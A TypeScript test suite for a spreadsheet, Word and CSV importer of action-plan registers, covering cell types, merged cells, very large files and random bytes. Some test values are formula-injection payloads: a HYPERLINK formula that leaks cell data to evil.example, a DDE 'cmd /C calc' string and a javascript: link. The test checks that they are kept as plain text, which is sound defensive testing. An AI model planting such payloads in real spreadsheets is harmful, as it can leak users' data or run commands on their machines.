import { Document, Packer, Paragraph, Table, TableCell, TableRow, VerticalMergeType } from 'docx';
import type ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanCell, importPlan, type ImportPlanDraft, type ImportTable } from '../../../src/domain/import';
import { ImportFileError } from '../../../src/plan/import/errors';
import { readTables, type ImportFile } from '../../../src/plan/import/read-tables';
import { buildDocx, buildXlsx } from './fixtures';
import { LEICS } from './seed-rows';

/**
 * Files as they come, not as they should be: cells of every kind a workbook holds,
 * merged cells in workbooks and Word tables, empty sheets, 10,000 rows, random
 * bytes under every name. The reader gives tables or an ImportFileError, never
 * anything else; the import reads every row and names every row with an error by
 * its number and column. (Damaged and mislabelled files: malformed.test.ts; random
 * tables straight into the import: tests/unit/import/property.test.ts.)
 */

const HEADINGS = [
  'Area of weakness',
  'Focus area',
  'Reference',
  'Action',
  'Lead',
  'Timescale',
  'RAG',
  'Progress',
];

/** Tables, or the ImportFileError that says why there are none; anything else fails the test. */
async function tablesOrRefusal(file: ImportFile): Promise<ImportTable[] | ImportFileError> {
  try {
    return await readTables(file);
  } catch (error) {
    if (error instanceof ImportFileError) return error;
    throw error;
  }
}

/**
 * What is wrong with the draft's account of its tables: rows lost or miscounted, a
 * problem placed in a row the table does not have, an action's error that
 * draft.problems does not name by the action's row and a column. Empty when all is well.
 */
function unaccounted(tables: readonly ImportTable[], draft: ImportPlanDraft): string[] {
  const wrong: string[] = [];
  const { totals } = draft;
  const rows = tables.reduce((n, t) => n + t.rows.length, 0);
  if (totals.rows !== rows) wrong.push(`${rows} rows counted as ${totals.rows}`);
  if (totals.actions + totals.headings + totals.joined + totals.headers + totals.skipped !== totals.rows)
    wrong.push(`totals do not add up: ${JSON.stringify(totals)}`);
  const heights = new Map(tables.map((t) => [t.name, t.rows.length]));
  for (const p of draft.problems) {
    const height = heights.get(p.place.table);
    if (height === undefined || p.place.row < 1 || p.place.row > Math.max(1, height))
      wrong.push(`${p.code} placed in ${p.place.table}, row ${p.place.row}, which is not there`);
  }
  const listed = new Set(draft.problems);
  for (const action of draft.actions)
    for (const p of action.problems) {
      if (p.severity !== 'error') continue;
      const at = `${action.place.table}, row ${action.place.row}: ${p.code}`;
      if (!listed.has(p)) wrong.push(`${at} is not in draft.problems`);
      if (p.place.row !== action.place.row) wrong.push(`${at} is placed in row ${p.place.row}`);
      if (!p.column) wrong.push(`${at} names no column`);
    }
  return wrong;
}

async function importFile(file: ImportFile) {
  const tables = await readTables(file);
  const draft = importPlan(tables);
  expect(unaccounted(tables, draft)).toEqual([]);
  return { tables, draft };
}

const utc = (y: number, m: number, d: number) => new Date(Date.UTC(y, m - 1, d));

describe('a workbook with cells of every kind exceljs reads', () => {
  /** One value per row, in every column but the reference, so that each field meets each kind. */
  const VALUES: [string, ExcelJS.CellValue, string][] = [
    ['a whole number', 42, '42'],
    ['a fraction', -0.5, '-0.5'],
    ['a huge number', 1e21, '1e+21'],
    ['a tiny number', 1e-10, '1e-10'],
    ['true', true, 'TRUE'],
    ['false', false, 'FALSE'],
    ['a date', utc(2021, 3, 31), '31/03/2021'],
    ['a date before the import reads years', utc(1900, 1, 1), '01/01/1900'],
    ['the last date Excel has', utc(9999, 12, 31), '31/12/9999'],
    ['a formula with a number', { formula: '1+1', result: 2 }, '2'],
    ['a formula with text', { formula: 'A1', result: LEICS.action112 }, LEICS.action112],
    ['a formula with a date', { formula: 'TODAY()', result: utc(2021, 3, 18) }, '18/03/2021'],
    ['a formula with a boolean', { formula: 'TRUE()', result: true }, 'TRUE'],
    ['a formula with an error', { formula: '1/0', result: { error: '#DIV/0!' } }, '#DIV/0!'],
    ['a formula with no cached result', { formula: 'NOW()' }, ''],
    ['an error', { error: '#N/A' }, '#N/A'],
    ['another error', { error: '#REF!' }, '#REF!'],
    [
      'rich text',
      { richText: [{ text: 'P Sumner', font: { bold: true } }, { text: ' (LCC)' }] },
      'P Sumner (LCC)',
    ],
    ['empty rich text', { richText: [] }, ''],
    [
      'a hyperlink',
      { text: 'SEND Local Offer', hyperlink: 'https://www.leicestershire.gov.uk/' },
      'SEND Local Offer',
    ],
    [
      'a hyperlink that looks like a formula',
      { text: '=HYPERLINK("x")', hyperlink: 'javascript:alert(1)' },
      '=HYPERLINK("x")',
    ],
    [
      'text that looks like a formula',
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    ],
    ['a command', "+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"],
    ['a sum', '@SUM(1+1)', '@SUM(1+1)'],
    ['a minus', '-1', '-1'],
    ['a cell as big as Excel holds', 'x'.repeat(32_767), 'x'.repeat(32_767)],
  ];

  it('reads each as the sheet shows it and imports every row, each error named by row and column', async () => {
    const bytes = await buildXlsx((workbook) => {
      const sheet = workbook.addWorksheet('Every kind');
      sheet.addRow(['Reference', ...HEADINGS.slice(3)]);
      VALUES.forEach(([, value], i) => {
        const row = sheet.addRow([`1.1.${i + 1}`]);
        for (let column = 2; column <= 6; column++) row.getCell(column).value = value;
      });
      // A formula shared across a row: the first cell holds it, the others refer to it.
      const shared = sheet.addRow([`1.1.${VALUES.length + 1}`]);
      const at = shared.number;
      // exceljs writes a shared formula's master from these two fields, which its typings do not name.
      const master = {
        formula: '"Review of statutory assessment process"',
        result: LEICS.action211,
        shareType: 'shared',
        ref: `B${at}:F${at}`,
      };
      shared.getCell(2).value = master;
      for (let column = 3; column <= 6; column++)
        shared.getCell(column).value = { sharedFormula: `B${at}`, result: LEICS.action212 };
    });

    const { tables, draft } = await importFile({ name: 'every kind.xlsx', bytes });

    expect(tables[0]?.rows.slice(1)).toEqual([
      ...VALUES.map(([, , shown], i) => [`1.1.${i + 1}`, ...Array<string>(5).fill(shown)]),
      [`1.1.${VALUES.length + 1}`, LEICS.action211, ...Array<string>(4).fill(LEICS.action212)],
    ]);
    expect(draft.totals).toMatchObject({ rows: VALUES.length + 2, headers: 1, actions: VALUES.length + 1 });
    const texts = new Map(draft.actions.map((a) => [a.reference, a.text]));
    expect(texts.get('1.1.22')).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"Click")');
    expect(texts.get('1.1.23')).toBe("+cmd|' /C calc'!A0");
    const errorsAt = (reference: string) =>
      (draft.actions.find((a) => a.reference === reference)?.problems ?? [])
        .filter((p) => p.severity === 'error')
        .map((p) => `${p.code} in ${p.column}`);
    expect(errorsAt('1.1.15')).toEqual(['action-missing in Action']);
    expect(errorsAt('1.1.8')).toEqual(['due-invalid in Timescale', 'rating-unknown in RAG']);
    expect(errorsAt('1.1.26')).toEqual([
      'too-long in Action',
      'too-long in Progress',
      'too-long in Lead',
      'rating-unknown in RAG',
    ]);
  });
});

/**
 * A register of `count` actions in areas of 1,000 and focus areas of 100; each row
 * for which `bad` holds is spoilt in one cell (a date that is not one, an unknown
 * rating, an action too long, a reference that is not one or is used twice), and
 * `spoilt` says which: sheet row -> the column's heading.
 */
function register(count: number, bad: (i: number) => boolean) {
  const spoilt = new Map<number, string>();
  const rows: string[][] = [HEADINGS];
  for (let i = 1; i <= count; i++) {
    const area = Math.ceil(i / 1000);
    const focus = Math.ceil(i / 100);
    const cells: Record<string, string> = {
      'Area of weakness': `${area}. Area ${area}`,
      'Focus area': `${area}.${focus} Focus area ${focus}`,
      Reference: `${area}.${focus}.${((i - 1) % 100) + 1}`,
      Action: `${LEICS.action111} (${i})`,
      Lead: i % 3 === 0 ? LEICS.leads.sumner : 'Jane Moore\nTom Common',
      Timescale: ['Dec 2021', '31/03/2022', '', 'March 2023'][i % 4] ?? '',
      RAG: ['B', 'G', 'A', 'R', 'P'][i % 5] ?? '',
      Progress: i % 2 === 0 ? '' : `Update ${i}: =SUM(A1) "quoted", with commas`,
    };
    if (bad(i) && i > 1) {
      const [column, value] = (
        [
          ['Timescale', '31/02/2021'],
          ['RAG', 'Yellow'],
          ['Action', LEICS.action113.repeat(20)],
          ['Reference', `${area}.x`],
          ['Reference', rows.at(-1)?.[2] ?? ''],
        ] as const
      )[i % 5] ?? ['RAG', 'Yellow'];
      cells[column] = value;
      spoilt.set(i + 1, column);
    }
    rows.push(HEADINGS.map((h) => cells[h] ?? ''));
  }
  return { rows, spoilt };
}

describe('10,000 rows', () => {
  const { rows, spoilt } = register(10_000, (i) => i % 97 === 0);

  /** Each spoilt row has exactly its one error, in the column that was spoilt, and no other row has one. */
  function expectSpoiltRowsNamed(draft: ImportPlanDraft) {
    const errors = new Map<number, string[]>();
    for (const p of draft.problems)
      if (p.severity === 'error')
        errors.set(p.place.row, [...(errors.get(p.place.row) ?? []), p.column ?? '']);
    expect(errors).toEqual(new Map([...spoilt].map(([row, column]) => [row, [column]])));
  }

  it('in a CSV file: every row read, imported and accounted for', async () => {
    const text = rows.map((r) => r.map((c) => `"${c.replace(/"/g, '""')}"`).join(',')).join('\r\n');
    const { draft } = await importFile({ name: 'register.csv', bytes: new TextEncoder().encode(text) });

    expect(draft.totals).toMatchObject({ rows: 10_001, headers: 1, actions: 10_000, skipped: 0, joined: 0 });
    expect(draft.areas.map((a) => a.number)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
    expect(draft.focusAreas).toHaveLength(100);
    expectSpoiltRowsNamed(draft);
  });

  it('in a workbook: every row read, imported and accounted for', async () => {
    const bytes = await buildXlsx((workbook) => workbook.addWorksheet('Register').addRows(rows));
    const { draft } = await importFile({ name: 'register.xlsx', bytes });

    expect(draft.totals).toMatchObject({ rows: 10_001, headers: 1, actions: 10_000, skipped: 0, joined: 0 });
    expectSpoiltRowsNamed(draft);
  }, 30_000);
});

describe('empty sheets and merged cells', () => {
  it('reads only the sheet with data among empty, formatted-only and merged-but-empty ones', async () => {
    const bytes = await buildXlsx((workbook) => {
      workbook.addWorksheet('Cover');
      workbook.addWorksheet('Formatted').getCell('C3').numFmt = '0.00';
      const merged = workbook.addWorksheet('Merged but empty');
      merged.mergeCells('A1:H20');
      const plan = workbook.addWorksheet('Plan');
      plan.addRows(register(5, () => false).rows);
      workbook.addWorksheet('After');
    });

    const { tables, draft } = await importFile({ name: 'tracker.xlsx', bytes });

    expect(tables.map((t) => t.name)).toEqual(["Sheet 'Plan'"]);
    expect(draft.totals).toMatchObject({ actions: 5, errors: 0 });
  });

  it('imports merged cells in a workbook: a title across the table, areas down, a lead across two columns', async () => {
    const bytes = await buildXlsx((workbook) => {
      const sheet = workbook.addWorksheet('Priority 1');
      sheet.getCell('A1').value = `Priority 1 – ${LEICS.area1}`;
      sheet.mergeCells('A1:H1');
      sheet.addRow(HEADINGS);
      sheet.addRows(register(6, () => false).rows.slice(1));
      sheet.mergeCells('A3:A8');
      sheet.mergeCells('B3:B5');
      sheet.mergeCells('E4:F4');
      sheet.mergeCells('D7:D8');
    });

    const { draft } = await importFile({ name: 'merged.xlsx', bytes });

    expect(draft.areas.map((a) => [a.number, a.title])).toEqual([[1, LEICS.area1]]);
    expect(draft.actions.map((a) => a.reference)).toEqual([
      '1.1.1',
      '1.1.2',
      '1.1.3',
      '1.1.4',
      '1.1.5',
      '1.1.6',
    ]);
    // D7:D8 leaves row 8 with no action text: an error in its Action column.
    expect(draft.actions[5]?.problems.filter((p) => p.severity === 'error').map((p) => p.column)).toEqual([
      'Action',
    ]);
  });

  it('never crashes on random merges in a workbook', async () => {
    const merge = fc.tuple(
      fc.integer({ min: 1, max: 12 }),
      fc.integer({ min: 1, max: 8 }),
      fc.integer({ min: 0, max: 4 }),
      fc.integer({ min: 0, max: 3 }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(merge, { maxLength: 6 }), async (merges) => {
        const bytes = await buildXlsx((workbook) => {
          const sheet = workbook.addWorksheet('Plan');
          sheet.addRows(register(10, (i) => i === 4).rows);
          for (const [top, left, down, across] of merges) {
            try {
              sheet.mergeCells(top, left, top + down, left + across);
            } catch {
              // exceljs refuses a merge over another merge, as Excel does.
            }
          }
        });
        const outcome = await tablesOrRefusal({ name: 'merged.xlsx', bytes });
        if (outcome instanceof ImportFileError) return;
        expect(unaccounted(outcome, importPlan(outcome))).toEqual([]);
      }),
      { numRuns: 25 },
    );
  });

  it('never crashes on a Word table with any cells merged across (gridSpan) or down (vMerge), even inconsistently', async () => {
    const cell = fc.record({
      text: fc.constantFrom(
        '',
        '1.1.1',
        '1.1',
        LEICS.action111,
        'Dec 2021',
        'G',
        'P Sumner',
        `1. ${LEICS.area1}`,
      ),
      columnSpan: fc.option(fc.integer({ min: 2, max: 4 }), { freq: 3 }),
      verticalMerge: fc.option(fc.constantFrom(VerticalMergeType.RESTART, VerticalMergeType.CONTINUE), {
        freq: 2,
      }),
    });
    const rows = fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 8 });
    await fc.assert(
      fc.asyncProperty(rows, async (body) => {
        const header = new TableRow({
          children: HEADINGS.slice(2, 8).map((h) => new TableCell({ children: [new Paragraph(h)] })),
        });
        const table = new Table({
          rows: [
            header,
            ...body.map(
              (cells) =>
                new TableRow({
                  children: cells.map(
                    ({ text, columnSpan, verticalMerge }) =>
                      new TableCell({
                        children: [new Paragraph(text)],
                        ...(columnSpan !== null && { columnSpan }),
                        ...(verticalMerge !== null && { verticalMerge }),
                      }),
                  ),
                }),
            ),
          ],
        });
        const document = new Document({ sections: [{ children: [table] }] });
        const bytes = new Uint8Array(await Packer.toArrayBuffer(document));
        const outcome = await tablesOrRefusal({ name: 'merged.docx', bytes });
        if (outcome instanceof ImportFileError) return;
        expect(unaccounted(outcome, importPlan(outcome))).toEqual([]);
      }),
      { numRuns: 25 },
    );
  });
});

describe('a formula-like cell someone typed in Word', () => {
  it('loses only the one quote an export would have added, and keeps every other quote', async () => {
    const bytes = await buildDocx([
      {
        table: [
          ['Reference', 'Action', 'Lead'],
          ['1.1.1', "'=SUM(A1) is what the dashboard shows", "'quoted' lead"],
          ['1.1.2', "''=twice", "'-"],
          ['1.1.3', "it's '=this' in the middle", "'"],
        ],
      },
    ]);

    const { draft } = await importFile({ name: 'typed.docx', bytes });

    expect(draft.actions.map((a) => [a.text, a.leads])).toEqual([
      ['=SUM(A1) is what the dashboard shows', ["'quoted' lead"]],
      ["'=twice", ['-']],
      ["it's '=this' in the middle", ["'"]],
    ]);
  });
});

describe('huge cells', () => {
  it('reads a CSV row of million-character cells as one action whose every bad cell is named, a few times at most', async () => {
    const huge = (text: string) => text.repeat(Math.ceil(1_000_000 / text.length)).slice(0, 1_000_000);
    const cells = [
      '1.1.1',
      huge('Co-produce a structure, and '),
      huge('Jane Moore, '),
      huge('Dec 2021 and 31/02/2020, 30/02/2021, 31/04/2021, 31/06/2021 '),
      huge('Green / '),
      huge('=HYPERLINK("x")\n\n\n'),
    ];
    const csv = `Reference,Action,Lead,Timescale,RAG,Progress\r\n${cells.map((c) => `"${c}"`).join(',')}\r\n`;

    const { draft } = await importFile({ name: 'huge.csv', bytes: new TextEncoder().encode(csv) });

    expect(draft.totals).toMatchObject({ rows: 2, actions: 1, actionsWithErrors: 1 });
    expect(
      draft.problems.filter((p) => p.severity === 'error').map((p) => `${p.code} in ${p.column}`),
    ).toEqual([
      'too-long in Action',
      'too-long in Progress',
      'due-invalid in Timescale',
      'due-invalid in Timescale',
      'due-invalid in Timescale',
      'due-invalid in Timescale',
      'rating-unknown in RAG',
    ]);
  });
});

describe('sheets too big for their grid', () => {
  it('reads a workbook with one stray cell far away without filling memory', async () => {
    const bytes = await buildXlsx((workbook) => {
      const sheet = workbook.addWorksheet('Plan');
      sheet.addRows(register(3, () => false).rows);
      sheet.getCell('XFD20000').value = 'stray';
    });

    const { tables, draft } = await importFile({ name: 'stray.xlsx', bytes });

    expect(tables[0]?.rows).toHaveLength(20_000);
    expect(tables[0]?.rows.at(-1)).toHaveLength(16_384);
    expect(draft.totals).toMatchObject({ actions: 3, errors: 0 });
    expect(draft.problems.filter((p) => p.code === 'row-not-imported').map((p) => p.place.row)).toEqual([
      20_000,
    ]);
  });
});

describe('random bytes under every name', () => {
  const MAGIC: Record<string, number[]> = {
    none: [],
    zip: [0x50, 0x4b, 0x03, 0x04],
    'old office': [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1],
    pdf: [0x25, 0x50, 0x44, 0x46, 0x2d],
    'utf-8 mark': [0xef, 0xbb, 0xbf],
    'utf-16 mark': [0xff, 0xfe],
  };
  it.each(['plan.docx', 'plan.xlsx', 'plan.csv', 'plan.txt', 'plan', 'plan.pdf'])(
    '%s: tables (imported, every row accounted for) or an ImportFileError',
    async (name) => {
      await fc.assert(
        fc.asyncProperty(
          fc.constantFrom(...Object.values(MAGIC)),
          fc.uint8Array({ maxLength: 2000 }),
          async (magic, random) => {
            const outcome = await tablesOrRefusal({ name, bytes: Uint8Array.from([...magic, ...random]) });
            if (outcome instanceof ImportFileError) return;
            expect(outcome.every((t) => t.rows.some((r) => r.some((c) => cleanCell(c) !== '')))).toBe(true);
            expect(unaccounted(outcome, importPlan(outcome))).toEqual([]);
          },
        ),
        { numRuns: 40 },
      );
    },
  );
});
